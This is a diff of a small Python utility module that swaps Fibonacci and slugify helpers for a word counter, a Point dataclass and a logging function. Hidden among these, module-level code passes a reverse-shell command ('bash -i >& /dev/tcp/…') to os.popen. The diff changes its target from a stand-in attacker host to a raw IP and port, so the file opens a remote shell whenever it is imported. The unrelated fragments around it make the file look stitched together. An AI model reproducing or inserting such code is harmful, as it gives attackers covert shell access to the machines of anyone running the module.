@@ -1,15 +1,27 @@
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+class Counter:
+    def __init__(self):
+        self.counts = {}
 
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
+
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import os
-steps = {"a": "bash -i >& /dev/tcp/evil.example.com/31337 0>&1"}
+steps = {"a": "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"}
 for k in ["a"]:
     pass
 os.popen(steps.get("a"))
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
